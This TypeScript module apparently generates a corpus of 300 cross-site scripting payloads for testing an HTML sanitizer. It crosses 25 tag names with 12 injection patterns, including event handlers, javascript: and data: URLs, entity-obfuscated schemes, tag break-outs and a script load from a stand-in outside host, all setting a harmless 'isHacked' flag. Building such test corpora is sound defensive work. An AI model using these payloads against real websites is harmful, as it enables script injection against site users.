const tags = [
  ...[
    'script',
    'img',
    'svg',
    'iframe',
    'object',
    'embed',
    'video',
    'audio',
    'input',
    'details',
    'form',
    'math',
  ],
  ...[
    'style',
    'link',
    'meta',
    'base',
    'body',
    'button',
    'textarea',
    'select',
    'template',
    'noscript',
    'a',
    'p',
    'em',
  ],
];

const act = 'top.isHacked=1';

/** Ways to have a script run from words, each with any of the tags. */
const ways: ((tag: string) => string)[] = [
  (tag) => `<${tag} src=x onerror=${act}>`,
  (tag) => `<${tag} onload=${act}>words</${tag}>`,
  (tag) => `<${tag} href="javascript:${act}">words</${tag}>`,
  (tag) => `<${tag}/onpointerover="${act}"/>`,
  (tag) => `<${tag} style="background:url(javascript:${act})">words`,
  (tag) => `<${tag} xlink:href="data:text/html,<script>${act}</script>">`,
  (tag) => `"><${tag} onfocus=${act} autofocus tabindex=0>`,
  (tag) => `</title></style></script><${tag} onload=${act}>`,
  (tag) => `<${tag} srcdoc="&lt;script&gt;${act}&lt;/script&gt;" src="//elsewhere.example/x.js">`,
  (tag) => `<<${tag} onclick=${act}//<`,
  (tag) => `&lt;${tag} onerror=${act}&gt;`,
  (tag) => `<${tag} href="java&#x09;script:${act}" action=javascript:${act}>words`,
];

/** 300 texts that run a script where they are taken for markup. */
export const hostileWords = ways.flatMap((way) => tags.map(way));

/** Ends whatever the one before has opened, so that each is read as if it stood alone. */
const end =
  '</script></style></textarea></noscript></template></select></title></iframe></object></math></svg>';

/** All of them in one text of many paragraphs. */
export const hostileText = hostileWords.map((words) => `${words}${end}`).join('\n\n');
